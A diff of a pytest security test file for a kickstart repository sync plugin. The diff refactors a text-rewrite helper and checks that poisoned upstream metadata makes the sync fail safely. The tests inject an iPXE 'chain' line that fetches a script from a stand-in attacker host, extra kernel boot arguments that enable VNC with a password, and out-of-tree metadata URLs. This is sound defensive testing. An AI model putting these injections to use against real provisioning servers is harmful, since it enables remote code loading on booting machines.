@@ -17,34 +17,9 @@ from pulp_kickstart_oci.pytest_plugin import unique
 from tests.support import dnf, fedora
 from tests.support.paginating_proxy import PagingProxy
 
-from .conftest import progress
+from .conftest import progress, rewrite
 
 EVIL = "http://evil.example/pwn.ipxe"
-
-
-def _rewrite(path, old, new):
-    text = path.read_text()
-    assert old in text, f"{old!r} not in {path}"
-    path.write_text(text.replace(old, new, 1))
-
-
-@pytest.fixture
-def fails_and_changes_nothing(kickstart_sync, latest_version):
-    """``fails_and_changes_nothing(repository, remote, *expected)``: the sync fails, its
-    error names every ``expected`` text, and the repository keeps its latest version.
-    Returns the error message."""
-
-    def _check(repository, remote, *expected):
-        before = latest_version(repository)
-        task = kickstart_sync(repository, remote, expect_failure=True)
-        assert task.state == "failed", task
-        message = task.error["description"]
-        for text in expected:
-            assert text in message, message
-        assert latest_version(repository) == before
-        return message
-
-    return _check
 
 
 # -- 1. nothing from upstream becomes boot-script syntax ----------------------------------
@@ -70,7 +45,7 @@ def test_a_treeinfo_continuation_line_cannot_reach_the_menu(
 
     tree = kickstart_dnf_tree_factory(release="42")
     release = "[release]\nname = Fedora\nshort = Fedora\nversion = 42\n"
-    _rewrite(tree.root / ".treeinfo", release, f"{release}  chain {EVIL}\n")
+    rewrite(tree.root / ".treeinfo", release, f"{release}  chain {EVIL}\n")
     remote = kickstart_dnf_remote_factory(kickstart_tree_server_factory(tree))
     message = fails_and_changes_nothing(repository, remote, "[release] version")
     assert "\n" not in message.split("[release] version", 1)[0][-200:]
@@ -86,7 +61,7 @@ def test_a_kernel_path_with_arguments_fails_naming_the_key(
     fails_and_changes_nothing,
 ):
     tree = kickstart_dnf_tree_factory(release="42")
-    _rewrite(
+    rewrite(
         tree.root / ".treeinfo",
         "kernel = images/pxeboot/vmlinuz",
         "kernel = images/pxeboot/vmlinuz inst.vnc inst.vncpassword=x",
@@ -166,16 +141,16 @@ def test_metadata_urls_outside_the_tree_are_never_fetched(
     repomd = tree.root / "repodata" / "repomd.xml"
     primary = re.search(r'href="(repodata/[^"]*primary[^"]*)"', repomd.read_text()).group(1)
     for target in (f"{other.url}/{primary}", f"//{other.url.split('//', 1)[1]}/{primary}"):
-        _rewrite(repomd, f'href="{primary}"', f'href="{target}"')
+        rewrite(repomd, f'href="{primary}"', f'href="{target}"')
         remote = kickstart_dnf_remote_factory(
             kickstart_tree_server_factory(tree), username="user", password="pw-not-for-others"
         )
         message = fails_and_changes_nothing(repository, remote, "not a relative path")
         assert "pw-not-for-others" not in message
-        _rewrite(repomd, f'href="{target}"', f'href="{primary}"')
+        rewrite(repomd, f'href="{target}"', f'href="{primary}"')
     assert other.requests == []
 
-    _rewrite(
+    rewrite(
         tree.root / ".treeinfo",
         "kernel = images/pxeboot/vmlinuz",
         f"kernel = {other.url}/images/pxeboot/vmlinuz",
@@ -386,16 +361,16 @@ def test_non_sha256_checksums_are_verified_and_unknown_types_fail(
         sha256_line = f"images/install.img = sha256:{hashlib.sha256(stage2).hexdigest()}"
         server = kickstart_tree_server_factory(tree)
         if algorithm == "crc32":
-            _rewrite(treeinfo, sha256_line, "images/install.img = crc32:abcd1234")
+            rewrite(treeinfo, sha256_line, "images/install.img = crc32:abcd1234")
             fails_and_changes_nothing(repository, kickstart_dnf_remote_factory(server), "'crc32'")
             continue
         wrong = f"images/install.img = {algorithm}:{hashlib.new(algorithm, b'x').hexdigest()}"
-        _rewrite(treeinfo, sha256_line, wrong)
+        rewrite(treeinfo, sha256_line, wrong)
         fails_and_changes_nothing(
             repository, kickstart_dnf_remote_factory(server), "images/install.img", algorithm
         )
         right = f"images/install.img = {algorithm}:{hashlib.new(algorithm, stage2).hexdigest()}"
-        _rewrite(treeinfo, wrong, right)
+        rewrite(treeinfo, wrong, right)
         kickstart_sync(repository, kickstart_dnf_remote_factory(server))
         (synced,) = trees(latest_version(repository))
         assert any(f"verified against its {algorithm}" in w for w in synced.warnings)
